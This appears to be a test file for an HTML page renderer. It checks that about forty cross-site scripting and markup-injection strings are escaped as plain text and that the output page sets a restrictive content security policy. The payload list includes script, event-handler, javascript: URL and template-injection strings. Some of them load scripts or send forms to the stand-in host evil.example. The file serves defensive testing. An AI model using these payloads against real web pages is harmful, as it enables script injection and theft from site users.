import type { Page } from './block.js';
import { htmlPage } from './html-page.js';
import { cell, facts, heading, paragraph, table, typed } from './spans.js';

/** What has opened pages elsewhere: tags, attributes, entities, comments, encodings, ends of the elements a text stands in. */
const INJECTIONS = [
  '<script>alert(1)</script>',
  '</script><script>alert(1)</script>',
  '"><script>alert(1)</script>',
  "'><script>alert(1)</script>",
  '</bdi></td><script>alert(1)</script>',
  '</style><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '--><script>alert(1)</script>',
  ']]><script>alert(1)</script>',
  '<ScRiPt>alert(1)</sCrIpT>',
  '<script src=//evil.example/x.js></script>',
  '<scr\u0000ipt>alert(1)</scr\u0000ipt>',
  '<<script>alert(1)//<</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)">',
  '<img/src=x/onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><mtext></table><img src=x onerror=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<object data="data:text/html,<script>alert(1)</script>">',
  '<embed src="javascript:alert(1)">',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<form action="https://evil.example"><input name=p></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css"</style>',
  '" onmouseover="alert(1)',
  "' onmouseover='alert(1)",
  '` onmouseover=alert(1) `',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}<%= alert(1) %>',
  '\u202e>tpircs<',
];

const pageOf = (text: string): Page => ({
  title: { zh: text, en: text },
  sections: [
    {
      id: 's',
      title: { zh: text, en: text },
      blocks: [
        heading(3, typed(text, 'bad')),
        paragraph(typed(text)),
        facts([{ zh: text, en: text }, cell(typed(text, 'code'))]),
        table([[{ zh: text, en: text }, 100]], [[cell(typed(text, 'erased'))]]),
      ],
    },
  ],
});

const other = { file: 'index.en.html', name: 'English' };
/** Elements and their attributes, without texts and the values of `data-column`, which are texts too. */
const skeleton = (html: string): readonly string[] =>
  (html.match(/<[^>]*>/g) ?? []).map((tag) => tag.replace(/data-column="[^"]*"/, 'data-column'));

test('there are forty texts and more', () => expect(INJECTIONS.length).toBeGreaterThanOrEqual(40));

test.each(INJECTIONS)('%j is a text wherever it stands', (text) => {
  for (const language of ['zh', 'en'] as const)
    expect(skeleton(htmlPage(pageOf(text), language, other))).toEqual(skeleton(htmlPage(pageOf('harmless'), language, other)));
});

test('a text is shown as it was typed, and what could not be seen in it is named', () => {
  const html = htmlPage(pageOf('a & b < c\nd \u202etxt\u0007'), 'zh', other);
  expect(html).toContain('<bdi>a &amp; b &lt; c\nd [U+202E]txt[U+0007]</bdi>');
});

test('nothing is fetched or run, also when somebody edits the page', () => {
  const html = htmlPage(pageOf('x'), 'zh', other);
  expect(html).toContain(`content="default-src 'none'; style-src 'unsafe-inline'; base-uri 'none'; form-action 'none'"`);
  expect(html).not.toMatch(/<script|<link|<img|\son\w+=|url\(/i);
});
